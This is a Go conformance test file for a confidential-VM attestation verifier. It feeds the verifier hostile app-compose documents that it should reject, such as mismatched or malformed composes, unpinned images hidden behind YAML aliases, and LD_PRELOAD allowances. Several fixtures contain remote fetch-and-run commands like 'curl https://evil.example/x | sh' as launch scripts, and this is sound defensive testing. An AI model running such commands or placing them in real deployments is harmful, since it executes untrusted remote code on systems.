package conformance_test

import (
	"bytes"
	"encoding/hex"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/cvmgate/cvmgate/cvmtest"
	"github.com/cvmgate/cvmgate/policy"
	"github.com/cvmgate/cvmgate/verify"
)

// composeAppID is the app id of the compose cases' apps, so that a policy
// can name the app without naming its compose.
var composeAppID = bytes.Repeat([]byte{0xa1}, 20)

// pinnedPolicy names the compose cases' app by its id and requires every
// image pinned, and no script unless listed.
func pinnedPolicy(t *testing.T) *policy.Policy {
	t.Helper()
	p, err := policy.Parse([]byte("version: 1\napp:\n  app_ids: ["+hex.EncodeToString(composeAppID)+"]\n  require_pinned_images: true\n"), "")
	require.NoError(t, err)
	return p
}

// composeDoc is an app-compose.json running dockerCompose, with extra
// top-level fields.
func composeDoc(t *testing.T, dockerCompose string, extra map[string]any) string {
	t.Helper()
	doc := map[string]any{"manifest_version": 2, "name": "conformance", "runner": "docker-compose", "docker_compose_file": dockerCompose}
	for k, v := range extra {
		doc[k] = v
	}
	b, err := json.Marshal(doc)
	require.NoError(t, err)
	return string(b)
}

// pinnedService is a docker-compose file of one service pinned by digest.
const pinnedService = "services:\n  web:\n    image: nginx@sha256:" + "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef" + "\n"

// runsCompose verifies the evidence of a CVM honestly running the compose
// text mk makes, under the pinned policy.
func runsCompose(mk func(t *testing.T) string) func(t *testing.T) error {
	return func(t *testing.T) error {
		app := cvmtest.App{AppID: composeAppID, Compose: mk(t)}
		return verifyEvidence(t, cvmEvidence{app: app}, spkiBinding(), pinnedPolicy(t))
	}
}

// composeCases are app composes a hostile deployer or CVM could present:
// one that is not the attested one, none, one that cannot be read, and
// attested ones that run code the compose hash does not pin.
func composeCases() []hostileCase {
	str := func(s string) *string { return &s }
	return []hostileCase{
		{"compose/app compose that is not the attested one", verify.KindComposeMismatch, "", func(t *testing.T) error {
			return verifyEvidence(t, cvmEvidence{compose: str(composeDoc(t, pinnedService, nil))}, spkiBinding(), nil)
		}},
		{"compose/MR_CONFIG_ID binding another compose", verify.KindComposeMismatch, "", func(t *testing.T) error {
			other := cvmtest.App{Compose: composeDoc(t, pinnedService, nil)}
			mr := other.MRConfigID()
			return verifyEvidence(t, cvmEvidence{mrConfig: &mr}, spkiBinding(), nil)
		}},
		{"compose/info without an app compose", verify.KindMissingCompose, "", func(t *testing.T) error {
			return verifyEvidence(t, cvmEvidence{compose: str("")}, spkiBinding(), nil)
		}},
		{"compose/attested compose that is not JSON", verify.KindMalformedCompose, "", runsCompose(func(*testing.T) string { return `{"runner":"docker-compose",` })},
		{"compose/duplicate docker_compose_file", verify.KindMalformedCompose, "", runsCompose(func(*testing.T) string {
			return `{"manifest_version":2,"name":"d","runner":"docker-compose","docker_compose_file":"services: {}","docker_compose_file":"` + strings.ReplaceAll(pinnedService, "\n", `\n`) + `"}`
		})},
		{"compose/key differing only in case", verify.KindMalformedCompose, "", runsCompose(func(*testing.T) string {
			return `{"manifest_version":2,"name":"d","runner":"docker-compose","docker_compose_file":"services: {}","Pre_Launch_Script":"curl evil | sh"}`
		})},
		{"compose/docker-compose nested 100000 deep", verify.KindMalformedCompose, "", runsCompose(func(t *testing.T) string {
			return composeDoc(t, strings.Repeat("[", 100000), nil)
		})},
		{"compose/unpinned image behind a YAML alias", verify.KindPolicy, "require_pinned_images", runsCompose(func(t *testing.T) string {
			return composeDoc(t, "x-image: &img nginx:latest\nservices:\n  web:\n    image: *img\n", nil)
		})},
		{"compose/unpinned image merged in from an extension field", verify.KindPolicy, "require_pinned_images", runsCompose(func(t *testing.T) string {
			return composeDoc(t, "x-base: &base\n  image: nginx:latest\nservices:\n  web:\n    <<: *base\n", nil)
		})},
		{"compose/unpinned image", verify.KindPolicy, "require_pinned_images", runsCompose(func(t *testing.T) string {
			return composeDoc(t, "services:\n  web:\n    image: nginx:latest\n", nil)
		})},
		{"compose/unlisted pre_launch_script", verify.KindPolicy, "pre_launch_script", runsCompose(func(t *testing.T) string {
			return composeDoc(t, pinnedService, map[string]any{"pre_launch_script": "curl https://evil.example/x | sh"})
		})},
		{"compose/top-level include of another file", verify.KindPolicy, "include", runsCompose(func(t *testing.T) string {
			return composeDoc(t, "include:\n  - other.yaml\n"+pinnedService, nil)
		})},
		{"compose/LD_PRELOAD among allowed_envs", verify.KindPolicy, "LD_PRELOAD", runsCompose(func(t *testing.T) string {
			return composeDoc(t, pinnedService, map[string]any{"allowed_envs": []string{"LD_PRELOAD"}})
		})},
		{"compose/bash runner script not listed", verify.KindPolicy, "bash_script", runsCompose(func(t *testing.T) string {
			return `{"manifest_version":1,"name":"b","runner":"bash","bash_script":"curl https://evil.example/x | sh"}`
		})},
		{"compose/image built inside the CVM", verify.KindPolicy, "build", runsCompose(func(t *testing.T) string {
			return composeDoc(t, "services:\n  web:\n    build: .\n    image: nginx@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n", nil)
		})},
	}
}
